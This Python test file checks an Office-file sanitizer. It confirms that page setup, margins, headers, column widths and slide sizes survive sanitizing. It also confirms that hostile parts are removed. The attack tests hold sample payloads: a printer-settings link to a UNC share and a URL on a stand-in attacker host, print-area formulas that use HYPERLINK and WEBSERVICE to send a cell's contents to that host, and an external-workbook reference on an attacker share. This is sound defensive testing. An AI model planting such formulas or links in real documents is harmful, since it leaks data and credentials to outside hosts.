"""Issue 14: what a clerk prints survives the rebuild — a sheet's page setup (paper,
orientation, fit to width, first page number), margins, print options, header and footer,
print area and titles, column widths, row heights, merged cells and frozen panes; a Word
section's page size and margins; a presentation's slide size.

Files are made by real tools (openpyxl, python-docx, python-pptx, LibreOffice), run through
``cli.py sanitize`` as an operator does, and read back with the same tools. Excel writes the
printer's binary settings (a DEVMODE) beside the page setup and names them from
``<pageSetup r:id>``; openpyxl and LibreOffice write none, so that part is added the way
Excel lays it out. Only that reference and its part may go.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pptx
import pytest
from docx.enum.section import WD_ORIENT
from docx.shared import Mm
from lxml import etree
from pptx.util import Emu

from cdr.removals import kept_codes, kept_words, removed_codes, removed_words
from tests import office_builders as ob
from tests.attacks import runner
from tests.fidelity_builders import (
    PRINTER_SETTINGS,
    SHEET,
    SHEET_RELS,
    R,
    S,
    letter_landscape_workbook,
    with_printer_settings,
)

SETUP_FIELDS = ("paperSize", "orientation", "scale", "fitToWidth", "fitToHeight", "firstPageNumber",
                "useFirstPageNumber", "horizontalDpi", "verticalDpi", "pageOrder", "blackAndWhite")  # fmt: skip


def print_layout(data: bytes) -> dict[str, Any]:
    """Everything about printing and layout openpyxl reads from the first sheet."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    margins = sheet.page_margins
    return {
        "setup": {field: getattr(sheet.page_setup, field) for field in SETUP_FIELDS},
        "fit_to_page": sheet.sheet_properties.pageSetUpPr.fitToPage,
        "margins": (margins.left, margins.right, margins.top, margins.bottom, margins.header, margins.footer),
        "options": (sheet.print_options.gridLines, sheet.print_options.horizontalCentered),
        "header_footer": (sheet.oddHeader.center.text, sheet.oddFooter.right.text),
        "print_area": sheet.print_area,
        "print_titles": sheet.print_title_rows,
        "column_b": sheet.column_dimensions["B"].width,
        "row_3": sheet.row_dimensions[3].height,
        "merged": sorted(str(r) for r in sheet.merged_cells.ranges),
        "frozen": sheet.freeze_panes,
    }


def released(tmp_path: Path, name: str, data: bytes) -> tuple[bytes, dict[str, Any]]:
    (tmp_path / name).write_bytes(data)
    batch = runner.sanitize(tmp_path, [name])
    result = batch.results[name]
    output = batch.output(name)
    assert output is not None, result
    return output.read_bytes(), result


def page_setup_element(data: bytes) -> etree._Element:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        root = etree.fromstring(package.read(SHEET))
        names = package.namelist()
    assert not any("printerSettings" in name for name in names)
    found = root.findall(f"{{{S}}}pageSetup")
    assert len(found) == 1
    return found[0]


def test_letter_landscape_with_printer_settings_keeps_its_page_setup(tmp_path: Path) -> None:
    original = with_printer_settings(letter_landscape_workbook())
    output, result = released(tmp_path, "名簿.xlsx", original)
    assert print_layout(output) == print_layout(original)
    layout = print_layout(output)
    assert layout["setup"]["paperSize"] == 1 and layout["setup"]["orientation"] == "landscape"
    assert layout["header_footer"] == ("住民名簿 &P / &N", "&D 総務課")
    assert layout["print_area"] == "'名簿'!$A$1:$F$30"
    # only the reference to the printer's binary settings went, and the result says both
    assert page_setup_element(output).get(f"{{{R}}}id") is None
    actions = {(a["what"], a["action"]) for a in result["actions"]}
    assert actions == {("printer-settings", "removed"), ("page-setup", "kept")}
    # the daily report's words for a clerk: what went, and that the print layout did not
    assert removed_words(removed_codes(result["actions"])) == "プリンター設定削除"
    assert kept_words(kept_codes(result["actions"])) == "印刷の設定（用紙・向き・余白）はそのまま残しました。"


def test_page_setup_without_printer_settings_is_not_mentioned(tmp_path: Path) -> None:
    original = letter_landscape_workbook()
    output, result = released(tmp_path, "plain.xlsx", original)
    assert print_layout(output) == print_layout(original)
    assert result["actions"] == []


@pytest.mark.slow  # LibreOffice
def test_a_workbook_libreoffice_wrote_keeps_its_page_setup(tmp_path: Path) -> None:
    """LibreOffice's own xlsx (from an .ods it saved) with A4 portrait scaled to 80 %."""
    book = openpyxl.load_workbook(io.BytesIO(letter_landscape_workbook()))
    setup = book.active.page_setup
    setup.paperSize, setup.orientation, setup.scale = book.active.PAPERSIZE_A4, "portrait", 80
    book.active.sheet_properties.pageSetUpPr.fitToPage = False
    book.save(tmp_path / "source.xlsx")
    ods = ob.libreoffice(tmp_path, tmp_path / "source.xlsx", "ods")
    (tmp_path / "source.xlsx").unlink()
    made = ob.libreoffice(tmp_path, ods, 'xlsx:"Calc MS Excel 2007 XML"'.replace('"', ""))
    original = made.read_bytes()
    output, _result = released(tmp_path, "lo.xlsx", original)
    assert print_layout(output) == print_layout(original)
    assert print_layout(output)["setup"]["scale"] == 80 and print_layout(output)["setup"]["paperSize"] == 9


def test_word_section_and_slide_size_survive(tmp_path: Path) -> None:
    document = docx.Document()
    document.add_paragraph("横向きの通知")
    section = document.sections[0]
    section.orientation = WD_ORIENT.LANDSCAPE
    section.page_width, section.page_height = Mm(297), Mm(210)
    section.left_margin, section.top_margin = Mm(12), Mm(18)
    buffer = io.BytesIO()
    document.save(buffer)
    output, _ = released(tmp_path, "notice.docx", buffer.getvalue())
    def page(data: bytes) -> tuple[object, ...]:
        first = docx.Document(io.BytesIO(data)).sections[0]
        return first.orientation, first.page_width, first.page_height, first.left_margin, first.top_margin

    assert page(output) == page(buffer.getvalue())
    assert page(output)[0] == WD_ORIENT.LANDSCAPE and abs(page(output)[1] - Mm(297)) < Mm(1)

    deck = pptx.Presentation()
    deck.slide_width, deck.slide_height = Emu(9144000), Emu(6858000)  # 4:3
    deck.slides.add_slide(deck.slide_layouts[0]).shapes.title.text = "説明会"
    buffer = io.BytesIO()
    deck.save(buffer)
    output, _ = released(tmp_path, "deck.pptx", buffer.getvalue())
    kept_deck = pptx.Presentation(io.BytesIO(output))
    assert (kept_deck.slide_width, kept_deck.slide_height) == (9144000, 6858000)


# ---------------------------------------------------------------- attacks on the kept parts
@pytest.mark.parametrize(
    ("target", "external", "rel_type"),
    [
        ("\\\\attacker.example\\share\\devmode.bin", True, PRINTER_SETTINGS),  # a share Windows would touch
        ("https://attacker.example/devmode.bin", True, PRINTER_SETTINGS),
        ("https://example.jp/", True, f"{R}/hyperlink"),  # a kept kind of relationship, the wrong element
        ("../media/image1.png", False, f"{R}/image"),  # an internal part of another kind
    ],
    ids=["unc-share", "web", "hyperlink-kind", "image-kind"],
)
def test_page_setup_naming_anything_else_loses_only_the_reference(
    tmp_path: Path, target: str, external: bool, rel_type: str
) -> None:
    original = with_printer_settings(letter_landscape_workbook(), target, external, rel_type)
    output, _result = released(tmp_path, "attack.xlsx", original)
    element = page_setup_element(output)
    assert element.get(f"{{{R}}}id") is None
    assert element.get("paperSize") == "1" and element.get("orientation") == "landscape"
    with zipfile.ZipFile(io.BytesIO(output)) as package:
        rels = package.read(SHEET_RELS).decode() if SHEET_RELS in package.namelist() else ""
    assert "attacker" not in rels and "printerSettings" not in rels


def test_a_header_of_100k_characters_is_text_and_stays_text(tmp_path: Path) -> None:
    """A header is text with &-codes (page number, date, file name): nothing in it loads or
    runs, so even an absurd one is kept as it is, not refused and not cut."""
    long = "長い見出し&P" * 14_286  # 100 002 characters
    package = ob.Package(letter_landscape_workbook())
    root = etree.fromstring(package.parts[SHEET])
    root.find(f"{{{S}}}headerFooter/{{{S}}}oddHeader").text = "&C" + long
    package.put(SHEET, etree.tostring(root, xml_declaration=True, encoding="UTF-8"))
    output, result = released(tmp_path, "long-header.xlsx", package.bytes())
    root = etree.fromstring(zipfile.ZipFile(io.BytesIO(output)).read(SHEET))
    assert root.find(f"{{{S}}}headerFooter/{{{S}}}oddHeader").text == "&C" + long
    assert result["actions"] == []


@pytest.mark.parametrize(
    ("name", "formula"),
    [
        ("_xlnm.Print_Area", "HYPERLINK(\"https://attacker.example/\"&名簿!$A$1,\"x\")"),
        ("_xlnm.Print_Area", "WEBSERVICE(\"https://attacker.example/?\"&名簿!$A$1)"),
        ("_xlnm.Print_Titles", "'\\\\attacker.example\\share\\[book.xlsx]名簿'!$1:$2"),
    ],
    ids=["print-area-hyperlink", "print-area-webservice", "print-titles-external-book"],
)
def test_a_print_area_holding_a_call_out_is_dropped_the_rest_prints_as_before(
    tmp_path: Path, name: str, formula: str
) -> None:
    package = ob.Package(letter_landscape_workbook())
    workbook = etree.fromstring(package.parts["xl/workbook.xml"])
    for defined in workbook.iter(f"{{{S}}}definedName"):
        if defined.get("name") == name:
            defined.text = formula
    package.put("xl/workbook.xml", etree.tostring(workbook, xml_declaration=True, encoding="UTF-8"))
    output, result = released(tmp_path, "area.xlsx", package.bytes())
    kept = etree.fromstring(zipfile.ZipFile(io.BytesIO(output)).read("xl/workbook.xml"))
    names = {d.get("name"): d.text for d in kept.iter(f"{{{S}}}definedName")}
    assert name not in names and "attacker" not in etree.tostring(kept, encoding="unicode")
    assert any(a["what"].startswith("formula-") for a in result["actions"])
    assert print_layout(output)["setup"] == print_layout(letter_landscape_workbook())["setup"]
